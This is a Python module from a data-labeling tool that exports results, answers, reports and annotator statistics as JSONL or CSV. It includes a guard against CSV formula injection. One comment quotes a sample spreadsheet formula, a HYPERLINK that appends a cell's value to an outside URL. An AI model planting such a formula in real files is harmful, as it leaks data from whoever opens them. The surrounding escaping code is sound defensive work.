"""Export results, answers or annotators as JSONL or CSV, streamed row by row."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import AsyncIterator
from typing import Any, Literal, TextIO

from .service import quality
from .service.items import ExportWhat
from .service.labeling import LabelingService
from .service.reports import Reports

What = Literal["results", "answers", "annotators", "reports"]
Format = Literal["jsonl", "csv"]

COLUMNS: dict[str, tuple[str, ...]] = {
    "results": ("id", "label", "status", "confidence", "votes", "n_answers", "method"),
    "answers": (
        "item_id",
        "annotator",
        "label",
        "skipped",
        "is_gold",
        "correct",
        "seconds",
        "answered_at",
        "skip_reason",
        "comment",
    ),
    "reports": (
        "item_id",
        "annotator",
        "reason",
        "comment",
        "reported_at",
        "item_status",
        "decision",
    ),
    "annotators": (
        "id",
        "name",
        "role",
        "status",
        "answers",
        "skips",
        "gold_answers",
        "gold_accuracy",
        "accuracy_low",
        "accuracy_high",
        "median_seconds",
    ),
}


async def rows(service: LabelingService, project: str, what: What) -> AsyncIterator[dict[str, Any]]:
    """The export's rows as dicts, streamed from a read-only connection."""
    if what in ("results", "answers", "reports"):
        async for batch in _sql_batches(service, project, what, "jsonl"):
            for (line,) in batch:
                yield json.loads(line)
    else:
        for a in await Reports(service).annotators(project, limit=1_000_000):
            yield {
                "id": a.key,
                "name": a.name,
                "role": a.role,
                "status": a.status,
                "answers": a.answers,
                "skips": a.skips,
                "gold_answers": a.gold_answers,
                "gold_accuracy": a.gold_accuracy,
                "accuracy_low": a.accuracy_low,
                "accuracy_high": a.accuracy_high,
                "median_seconds": a.median_seconds,
            }


# -- CSV injection ---------------------------------------------------------------------------
# A spreadsheet runs a cell that starts with = + - @ (or a tab or CR before one) as a formula:
# a Slack answer =HYPERLINK("http://x/?"&A1,"x") came out live. In CSV such a cell gets a
# leading ', and control characters (ESC and the like) are written as \xNN. Plain numbers
# such as -1 stay numbers. A CR becomes a line break: Python's csv writer does not quote a
# field for a CR, which split the row. JSONL is exact: it is data, not a spreadsheet.
_FORMULA_START = frozenset("=+-@\t\r")
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
# One match() per cell: a formula start, or a control character (CR included) anywhere.
_RISKY = re.compile(r"[=+\-@\t\r]|.*[\x00-\x08\x0b-\x1f\x7f-\x9f]", re.S)
# Columns that can hold outside text (item ids from the data file, labels, free-text answers
# and comments, annotator keys); the others are numbers, fixed words or JSON chatlabel wrote.
_TEXT_COLUMNS: dict[str, tuple[int, ...]] = {
    "results": (0, 1),
    "answers": (0, 1, 2, 9),
    "reports": (0, 1, 3),
}


def csv_cell(value: Any) -> Any:
    """A value made safe to open in a spreadsheet (text only; other values unchanged)."""
    if not isinstance(value, str) or not value:
        return value
    formula = value[0] in _FORMULA_START and not _NUMBER.fullmatch(value)
    if "\r" in value:
        value = value.replace("\r\n", "\n").replace("\r", "\n")
    if _CONTROL.search(value):
        value = _CONTROL.sub(lambda m: f"\\x{ord(m.group()):02x}", value)
    return "'" + value if formula else value


def _csv_safe(batch: list[Any], columns: tuple[int, ...]) -> list[Any]:
    """A batch of CSV rows with its text columns made safe (the batch itself when clean)."""
    risky = _RISKY.match
    bad = [
        n
        for n, row in enumerate(batch)
        if any(isinstance(row[c], str) and risky(row[c]) for c in columns)
    ]
    if not bad:
        return batch
    batch = list(batch)
    for n in bad:
        batch[n] = tuple(csv_cell(v) for v in batch[n])
    return batch


async def _sql_batches(
    service: LabelingService, project: str, what: ExportWhat, fmt: Format
) -> AsyncIterator[list[Any]]:
    """Rows in batches: one JSON text per row (jsonl) or a tuple of CSV cells."""
    if what == "results" and service.rules[project].method == "dawid-skene":
        await quality.recompute(service, project)  # batch verdicts, fresh for the export
    async for batch in service.export_batches(project, what, fmt):
        yield batch


async def _sql_export(
    service: LabelingService, project: str, what: ExportWhat, fmt: Format, out: TextIO
) -> int:
    n = 0
    if fmt == "jsonl":
        async for batch in _sql_batches(service, project, what, fmt):
            out.write("\n".join(r[0] for r in batch) + "\n")
            n += len(batch)
        return n
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(COLUMNS[what])
    columns = _TEXT_COLUMNS[what]
    async for batch in _sql_batches(service, project, what, fmt):
        writer.writerows(_csv_safe(batch, columns))
        n += len(batch)
    return n


async def write(
    service: LabelingService, project: str, what: What, fmt: Format, out: TextIO
) -> int:
    """Write an export to a text stream; returns the number of rows."""
    if what in ("results", "answers", "reports"):
        return await _sql_export(service, project, what, fmt, out)
    n = 0
    if fmt == "jsonl":
        async for row in rows(service, project, what):
            out.write(json.dumps(row, ensure_ascii=False) + "\n")
            n += 1
        return n
    writer = csv.DictWriter(out, fieldnames=COLUMNS[what], lineterminator="\n")
    writer.writeheader()
    async for row in rows(service, project, what):
        writer.writerow(
            {
                k: json.dumps(v, ensure_ascii=False) if isinstance(v, (dict, list)) else csv_cell(v)
                for k, v in row.items()
            }
        )
        n += 1
    return n


async def results_file(service: LabelingService, project: str) -> tuple[str, bytes]:
    """The results of a project as a JSONL file (name, bytes), for chat /export commands."""
    buf = io.StringIO()
    await write(service, project, "results", "jsonl", buf)
    return f"{project}-results.jsonl", buf.getvalue().encode("utf-8")
